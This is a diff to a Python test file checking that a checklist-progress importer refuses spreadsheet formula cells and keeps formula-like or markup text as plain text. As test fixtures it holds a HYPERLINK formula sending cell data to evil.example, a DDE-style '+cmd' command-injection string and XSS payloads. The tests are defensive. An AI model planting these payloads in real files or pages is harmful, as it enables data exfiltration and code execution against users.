@@ -5,7 +5,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 from generator.downloads import xlsx_export
@@ -13,7 +13,7 @@ from generator.progress.model import ProgressError
 from generator.progress.xlsx_import import read_workbook
 from generator.select import Checklist
 from tests.downloads.libreoffice import convert, needs_libreoffice
-from tests.progress.conftest import Fill, fill_workbook
+from tests.progress.conftest import Fill, Text, fill_workbook
 
 KNOWN = frozenset({"HST-001", "IAM-001"})
 
@@ -52,12 +52,31 @@ def test_untouched_rows_are_left_out(filled: Fill) -> None:
     assert read_workbook(filled({"Checklist": {"H2": "in progress"}}), lambda who: KNOWN).items.keys() == {"HST-001"}
 
 
-def test_hostile_cells_are_kept_as_plain_text_never_evaluated(filled: Fill) -> None:
+def test_formula_cells_are_refused_at_their_place_never_evaluated(filled: Fill) -> None:
     path = filled(
         {
             "Checklist": {
                 "K2": '=HYPERLINK("https://evil.example/?"&A1,"click")',
-                "I2": "=1+1",
+                "I3": "=1+1",
+                "J3": "=TODAY()+30",
+                "E3": "=1+1",  # Effort (minutes): a column Ambit does not read may hold anything
+            }
+        }
+    )
+    assert _problems(path) == ["Checklist!K2 formula", "Checklist!I3 formula", "Checklist!J3 formula"]
+    with pytest.raises(ProgressError) as caught:
+        _read(path)
+    assert "the Notes cell holds a formula; Ambit reads typed values only" in caught.value.render()
+    assert "evil.example" not in caught.value.render()
+
+
+def test_text_that_starts_like_a_formula_and_markup_stay_text(filled: Fill) -> None:
+    path = filled(
+        {
+            "Checklist": {
+                "K2": Text('=HYPERLINK("https://evil.example/?"&A1,"click")'),
+                "I2": Text("=1+1"),
+                "I3": "'+cmd",  # as Ambit's own exports write "+cmd": the "'" is not part of it
                 "K3": "<script>alert(1)</script> [x](javascript:alert(1))",
             }
         }
@@ -65,6 +84,7 @@ def test_hostile_cells_are_kept_as_plain_text_never_evaluated(filled: Fill) -> N
     progress = read_workbook(path, lambda who: KNOWN)
     assert progress.items["HST-001"].notes == '=HYPERLINK("https://evil.example/?"&A1,"click")'
     assert progress.items["HST-001"].owner == "=1+1"
+    assert progress.items["IAM-001"].owner == "+cmd"
     assert progress.items["IAM-001"].notes == "<script>alert(1)</script> [x](javascript:alert(1))"
 
 
@@ -88,7 +108,7 @@ def test_every_bad_cell_is_reported_at_its_place_in_one_run(filled: Fill) -> Non
         "Checklist!I3 too-long",
         "Checklist!J3 bad-date",
         "Checklist!A4 unknown-control",
-        "Checklist!A5 bad-id",
+        "Checklist!A5 formula",
         "Checklist!A6 duplicate-id",
     ]
 
@@ -184,12 +204,22 @@ def test_map_component_sheet_problems(map_checklist: Checklist, tmp_path: Path) 
 
 @needs_libreoffice
 def test_a_workbook_saved_again_by_libreoffice_reads_back(filled: Fill, tmp_path: Path) -> None:
-    source = filled({"Checklist": {"H2": "implemented", "K2": '=HYPERLINK("https://evil.example")'}})
+    # LibreOffice writes the keywords back as a list ("ambit-checklist baseline ambit-catalogue
+    # 0.1.0"), keeps text that starts with "=" as text and a formula as a formula.
+    source = filled(
+        {"Checklist": {"H2": "implemented", "K2": Text('=HYPERLINK("https://evil.example")'), "K3": "=1+1"}}
+    )
     saved = convert(source, "xlsx:Calc MS Excel 2007 XML", tmp_path)
+    assert _problems(saved) == ["Checklist!K3 formula"]  # the identity and every other cell read fine
+    import openpyxl
+
+    book = openpyxl.load_workbook(saved)
+    book["Checklist"]["K3"] = None
+    book.save(saved)
     progress = read_workbook(saved, lambda who: KNOWN)
     assert progress.checklist == "baseline"
     assert progress.items["HST-001"].status == "implemented"
-    assert progress.items["HST-001"].notes.startswith("=HYPERLINK(")
+    assert progress.items["HST-001"].notes == '=HYPERLINK("https://evil.example")'
 
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -198,6 +228,9 @@ def test_a_workbook_saved_again_by_libreoffice_reads_back(filled: Fill, tmp_path
     owner=st.sampled_from(["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "Dana"]),
 )
 def test_any_text_typed_into_owner_and_notes_comes_back_as_that_text(filled: Fill, notes: str, owner: str) -> None:
-    progress = read_workbook(filled({"Checklist": {"I2": owner, "K2": notes}}), lambda who: KNOWN)
+    # "'=x" is how Ambit's exports write the text "=x", so it reads back as "=x"; a person typing
+    # '=x in a spreadsheet stores "=x" (the "'" only says "text").
+    assume(not notes.startswith("'"))
+    progress = read_workbook(filled({"Checklist": {"I2": Text(owner), "K2": Text(notes)}}), lambda who: KNOWN)
     item = progress.items["HST-001"]
     assert (item.owner, item.notes) == (owner, notes.strip())
